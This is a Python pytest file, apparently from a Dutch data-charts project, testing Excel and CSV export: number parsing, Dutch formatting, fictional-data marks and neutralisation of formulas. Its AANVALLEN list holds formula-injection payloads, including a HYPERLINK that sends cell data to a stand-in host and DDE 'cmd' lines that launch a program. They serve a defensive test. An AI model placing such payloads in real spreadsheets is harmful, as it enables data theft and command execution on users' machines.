"""Excel and CSV hold the same figures, and no formula."""

import csv
import io
from dataclasses import replace
from datetime import date, datetime

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from charts import Toelichting, to_csv, to_excel
from charts.bestanden import parse_number, safe_text
from charts.toelichting import MERK, MERK_ZIN, NIETS_VERBORGEN

VANDAAG = date(2026, 11, 25)


@pytest.fixture
def tabel() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "Gemeente": ["Woerden", "Montfoort", "=1+1", "@kwaad"],
            "Maand": [date(2023, 9, 1)] * 4,
            "Aantal": ["1.234", "<5", "29–35", None],
            "Per 1.000 leerlingen": [2.5, None, 1.0, 0.3],
        }
    )


def open_book(inhoud: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(inhoud))


def test_excel_has_numbers_where_open_and_text_where_hidden(
    tabel: pl.DataFrame, toelichting: Toelichting
):
    blad = open_book(to_excel(tabel, toelichting, VANDAAG))["Gegevens"]

    rijen = list(blad.iter_rows(values_only=True))
    assert rijen[0] == ("Gemeente", "Maand", "Aantal", "Per 1.000 leerlingen")
    assert rijen[1] == ("Woerden", datetime(2023, 9, 1), 1234, 2.5)
    assert rijen[2] == ("Montfoort", datetime(2023, 9, 1), "<5", None)
    assert [rij[2] for rij in rijen[3:]] == ["29–35", None]


def test_excel_has_the_whole_toelichting_on_its_second_sheet(
    tabel: pl.DataFrame, toelichting: Toelichting
):
    blad = open_book(to_excel(tabel, toelichting, VANDAAG))["Toelichting"]

    inhoud = {str(label): tekst for label, tekst in blad.iter_rows(values_only=True)}
    stand = f"{toelichting.stand}. Gedownload op 25-11-2026"
    assert inhoud == dict(replace(toelichting, stand=stand).rows())
    assert inhoud["Definitie"] == toelichting.definitie
    assert inhoud["Kleine aantallen"] == toelichting.bescherming


def test_files_say_that_nothing_is_hidden_and_carry_every_remark(
    tabel: pl.DataFrame, toelichting: Toelichting
):
    over = replace(toelichting, bescherming="", opmerkingen=("=Een telling later.", "Nieuw team."))

    blad = open_book(to_excel(tabel, over, VANDAAG))["Toelichting"]
    rijen = list(blad.iter_rows(values_only=True))
    inhoud = to_csv(tabel, over, VANDAAG).decode("utf-8-sig")
    kop, rij, *_ = csv.reader(io.StringIO(inhoud), delimiter=";")

    assert ("Kleine aantallen", NIETS_VERBORGEN) in rijen
    assert [tekst for label, tekst in rijen if label == "Opmerking"] == [
        "'=Een telling later.",
        "Nieuw team.",
    ]
    assert dict(zip(kop, rij, strict=True))["Opmerking"] == "'=Een telling later. Nieuw team."
    assert {"Titel", "Periode", "Selectie", "Definitie", "Kleine aantallen", "Fictief"} <= set(kop)


def test_excel_marks_fictional_data_on_every_row_and_both_sheets(
    tabel: pl.DataFrame, toelichting: Toelichting
):
    boek = open_book(to_excel(tabel, replace(toelichting, fictief=True), VANDAAG))

    rijen = list(boek["Gegevens"].iter_rows(values_only=True))
    assert [rij[-1] for rij in rijen] == ["Let op", *[MERK_ZIN] * 4]
    assert ("Let op", f"{MERK_ZIN}.") in list(boek["Toelichting"].iter_rows(values_only=True))
    koppen = [blad.oddHeader for blad in boek.worksheets]
    assert [kop.center.text for kop in koppen if kop is not None] == [f"&B{MERK}"] * 2


def test_excel_without_fictional_data_has_no_mark(tabel: pl.DataFrame, toelichting: Toelichting):
    boek = open_book(to_excel(tabel, toelichting, VANDAAG))

    waarden = [str(w) for blad in boek for rij in blad.iter_rows(values_only=True) for w in rij]
    assert not [waarde for waarde in waarden if "fictie" in waarde.lower()]


def test_no_cell_of_excel_or_csv_starts_a_formula(tabel: pl.DataFrame, toelichting: Toelichting):
    blad = open_book(to_excel(tabel, toelichting, VANDAAG))["Gegevens"]
    cellen = [cel for rij in blad.iter_rows() for cel in rij]
    tekst = to_csv(tabel, toelichting, VANDAAG).decode("utf-8-sig")

    assert not [c for c in cellen if c.data_type == "f"]
    assert not [c for c in cellen if str(c.value).startswith(("=", "+", "-", "@"))]
    assert [rij[0] for rij in csv.reader(io.StringIO(tekst), delimiter=";")][3:] == [
        "'=1+1",
        "'@kwaad",
    ]


def test_csv_opens_as_a_dutch_table_and_keeps_its_source_on_every_row(
    tabel: pl.DataFrame, toelichting: Toelichting
):
    inhoud = to_csv(tabel, replace(toelichting, fictief=True), VANDAAG)

    assert inhoud.startswith(b"\xef\xbb\xbf")
    kop, *rijen = csv.reader(io.StringIO(inhoud.decode("utf-8-sig")), delimiter=";")
    eerste = dict(zip(kop, rijen[0], strict=True))
    assert eerste["Per 1.000 leerlingen"] == "2,5"
    assert eerste["Aantal"] == "1.234"
    assert eerste["Maand"] == "01-09-2023"
    assert rijen[1][2:4] == ["<5", ""]
    assert {dict(zip(kop, rij, strict=True))["Bron"] for rij in rijen} == {toelichting.bron}
    assert eerste["Fictief"].startswith("ja")


@pytest.mark.parametrize("maak", [to_excel, to_csv])
def test_files_refuse_an_empty_table_and_an_incomplete_toelichting(
    tabel: pl.DataFrame, toelichting: Toelichting, maak
):
    with pytest.raises(ValueError, match="geen gegevens"):
        maak(tabel.clear(), toelichting, VANDAAG)
    with pytest.raises(ValueError, match="bron"):
        maak(tabel, replace(toelichting, bron=""), VANDAAG)


@pytest.mark.parametrize(
    ("tekst", "getal"),
    [
        ("1.234", 1234),
        ("2,5", 2.5),
        ("0", 0),
        ("-3", -3),
        ("1234567", 1234567),
        ("<5", None),
        ("29–35", None),
        ("0632", None),
        ("2023-2024", None),
        ("1.23", None),
        ("", None),
    ],
)
def test_only_a_number_as_we_write_it_becomes_a_number(tekst: str, getal: float | None):
    assert parse_number(tekst) == getal


@given(st.text())
def test_safe_text_never_starts_a_formula_and_loses_nothing(tekst: str):
    veilig = safe_text(tekst)

    assert not veilig.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert veilig.removeprefix("'") == tekst or veilig == tekst


AANVALLEN = (
    '=HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\uff1d1+1",
)  # fmt: skip


@pytest.mark.parametrize("aanval", AANVALLEN)
def test_a_name_that_is_an_attack_stays_text_in_every_column_and_header(
    toelichting: Toelichting, aanval: str
):
    tabel = pl.DataFrame({aanval: [aanval], "Aantal": [-3], "Getal als tekst": ["-3"]})

    csv_tekst = to_csv(tabel, toelichting, VANDAAG).decode("utf-8-sig")
    kop, rij = csv.reader(io.StringIO(csv_tekst, newline=""), delimiter=";")
    blad = open_book(to_excel(tabel, toelichting, VANDAAG))["Gegevens"]

    assert kop[0] == rij[0] == f"'{aanval}"
    assert rij[1:3] == ["-3", "-3"]
    assert [cel.data_type for cel in blad[2]] == ["s", "n", "n"]
